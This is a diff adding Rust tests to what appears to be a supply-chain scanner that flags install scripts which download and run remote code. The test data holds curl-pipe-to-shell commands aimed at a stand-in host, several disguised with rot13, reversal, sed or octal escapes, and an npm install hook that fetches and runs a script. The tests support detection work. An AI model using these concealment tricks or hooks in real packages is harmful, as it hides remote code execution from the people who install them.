@@ -4,7 +4,7 @@ use super::{Found, analyse};
 use crate::limit::evaluating;
 use crate::package::Package;
 use crate::unpack::{Content, Entry, Kind, Tree};
-use customs_model::Mark;
+use customs_model::{Mark, SinkKind, SourceKind};
 
 fn file(path: &str, text: &str) -> Entry {
     Entry {
@@ -118,4 +118,178 @@ fn scripts_of_a_shell_that_start_each_other_beyond_the_bound_are_said_to_be_unre
     };
     assert!(!chain(1).exhausted_hooks);
     assert!(chain(8).exhausted_hooks);
+}
+
+/// Whether a script runs what it downloads only where a check held. `{check}` compares it.
+fn is_checked(script: &str) -> bool {
+    let digest = "8d6e2f10ab9c4d3e5f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6";
+    let check = format!("echo \"{digest}  tool\" | sha256sum -c -");
+    let fetch = "curl -fsSL https://c.invalid/t -o tool";
+    let text = script.replace("{fetch}", fetch).replace("{check}", &check);
+    let found = installed("bash", "get.sh", &format!("{text}\n./tool\n"));
+    let flows: Vec<_> = found
+        .flows
+        .iter()
+        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::ExecutedFile)
+        .collect();
+    assert!(!flows.is_empty(), "{text}: {:?}", found.flows);
+    flows
+        .iter()
+        .all(|flow| flow.marks.contains(&Mark::PinnedByDigest))
+}
+
+#[test]
+fn an_exit_in_a_subshell_ends_no_script() {
+    assert!(!is_checked("{fetch}\n{check} || (echo bad; exit 1)"));
+    let in_a_pipe = "{fetch}\n{check} || { echo bad; exit 1; } | cat";
+    assert!(!is_checked(in_a_pipe));
+}
+
+#[test]
+fn a_subshell_that_fails_ends_a_script_that_ends_with_the_first_failure() {
+    assert!(is_checked("set -e\n{fetch}\n{check} || (echo bad; exit 1)"));
+    for passed_over in [
+        "set -e\n{fetch}\n{check} || (echo bad; exit 0)",
+        "set -e\n{fetch}\n{check} || (echo bad; exit)",
+        "set -e\n{fetch}\n{check} || (echo bad; exit 1) || true",
+        "(set -e)\n{fetch}\n{check} || (echo bad; exit 1)",
+        "set -e\n{fetch}\n{ {check}; echo good; } || true",
+    ] {
+        assert!(!is_checked(passed_over), "{passed_over}");
+    }
+}
+
+#[test]
+fn an_exit_in_braces_ends_the_script() {
+    assert!(is_checked("{fetch}\n{check} || { echo bad; exit 1; }"));
+    assert!(is_checked("{fetch}\n{check} || exit 1"));
+    assert!(!is_checked("{fetch}\n{check} || { echo bad; }"));
+}
+
+#[test]
+fn what_a_subshell_checks_is_checked_behind_it_where_its_failure_ends_the_script() {
+    assert!(!is_checked("{fetch}\n({check} || exit 1)"));
+    assert!(!is_checked("{fetch}\nsh -c '{check} || exit 1'"));
+    assert!(is_checked("{fetch}\n({check} || exit 1) || exit 1"));
+    assert!(is_checked("set -e\n{fetch}\n({check} || exit 1)"));
+}
+
+/// What an installation runs that is hidden, by what hides it, and whether it fetches what it runs.
+fn hidden_by(script: &str) -> (Vec<String>, bool) {
+    let found = installed("sh", "a.sh", &format!("{script}\n"));
+    let runs = |kind: SourceKind| {
+        let mut flows: Vec<String> = found
+            .flows
+            .iter()
+            .filter(|flow| flow.source == kind && flow.sink == SinkKind::Process)
+            .map(|flow| flow.source_name.clone())
+            .collect();
+        flows.dedup();
+        flows
+    };
+    let fetched = runs(SourceKind::Remote);
+    (
+        runs(SourceKind::Decoded),
+        fetched.iter().any(|name| name.ends_with("c.invalid")),
+    )
+}
+
+#[test]
+fn a_text_that_a_filter_changed_and_nobody_can_compute_is_told_where_it_is_run() {
+    for (script, filter) in [
+        (
+            "echo 'qvey uggcf://p.vainyvq' | sed 's/[a-z]/x/g' | sh",
+            "sed",
+        ),
+        ("echo 'a b c d e f g h' | awk '{print $2}' | bash", "awk"),
+        ("printf '%s' 'what is it then' | ./turn | sh", "turn"),
+        (
+            "echo 'what is it then' | sed 's/./x/' | tee log | sh",
+            "sed",
+        ),
+        ("sed -n 's/x/y/p' <<EOF | sh\nwhat is it then\nEOF", "sed"),
+        (
+            "sh -c \"$(echo 'what is it then' | awk '{print $1}')\"",
+            "awk",
+        ),
+        ("eval \"$(echo 'what is it then' | grep -o 'i.*')\"", "grep"),
+        ("bash <(echo 'what is it then' | sort)", "sort"),
+        ("sh <<< \"$(echo 'what is it then' | sort)\"", "sort"),
+        ("(echo 'what is it'; echo 'then') | sort | python3", "sort"),
+        ("awk '{print $1}' <<< 'what is it then' | node", "awk"),
+    ] {
+        assert_eq!(hidden_by(script).0, [filter], "{script}");
+    }
+}
+
+#[test]
+fn a_text_that_a_filter_changed_is_read_where_it_can_be_computed() {
+    for script in [
+        "echo 'cuXrl https://c.invalid/a @ sh' | sed 's/X//; s/@/|/' | sh",
+        "echo 'phey uggcf://p.vainyvq/n | fu' | tr a-z n-za-m | sh",
+        "echo 'hs | a/dilavni.c//:sptth lruc' | rev | sh",
+        "echo '##curl https://c.invalid/a | sh' | cut -c3- | sh",
+        "printf '\\143url %s | sh' https://c.invalid/a | sh",
+        "sed 's/@/|/' <<EOF | sh\ncurl https://c.invalid/a @ sh\nEOF",
+        "sh <<< 'curl https://c.invalid/a | sh'",
+        "{ echo 'curl https://c.invalid/a @ sh'; echo ls; } | sed 's/@/|/' | sh",
+    ] {
+        assert!(hidden_by(script).1, "{script}");
+    }
+}
+
+#[test]
+fn a_text_that_is_changed_and_not_run_is_told_nowhere() {
+    for script in [
+        "V=$(echo 'release 1.2.3 of it' | awk '{print $2}'); echo \"$V\" > log",
+        "echo 'what is it then' | sort > log; sh other.sh",
+        "echo 'what is it then' | sed 's/what/ls/' | sh",
+        "echo 'y' | ./ask | sh",
+        "ls | sort | sh",
+    ] {
+        let (hidden, fetched) = hidden_by(script);
+        assert!(hidden.is_empty() && !fetched, "{script}: {hidden:?}");
+    }
+}
+
+#[test]
+fn on_a_host_that_many_share_only_the_owner_of_the_repository_is_own() {
+    let marks = |address: &str| {
+        let manifest = format!(
+            r#"{{"name": "a", "repository": "lk/tool", "scripts": {{"install": "curl -s {address} | sh"}}}}"#
+        );
+        let found = analyse(&Package::new(&Tree {
+            entries: vec![file("package.json", &manifest)],
+            ..Tree::default()
+        }));
+        let mut flows = found.flows.into_iter();
+        let flow = flows.find(|flow| flow.source == SourceKind::Remote);
+        flow.map(|flow| (flow.source_name, flow.marks.contains(&Mark::OwnHost)))
+    };
+    for (address, name, own) in [
+        (
+            "https://raw.githubusercontent.com/lk/tool/main/a.sh",
+            "raw.githubusercontent.com/lk",
+            true,
+        ),
+        ("https://lk.github.io/a.sh", "lk.github.io", true),
+        (
+            "https://raw.githubusercontent.com/other/tool/main/a.sh",
+            "raw.githubusercontent.com/other",
+            false,
+        ),
+        (
+            "https://github.com/lk/../other/tool/raw/main/a.sh",
+            "github.com",
+            false,
+        ),
+        (
+            "https://objects.githubusercontent.com/release/1/a",
+            "objects.githubusercontent.com",
+            false,
+        ),
+    ] {
+        let expected = (format!("the answer of {name}"), own);
+        assert_eq!(marks(address), Some(expected), "{address}");
+    }
 }
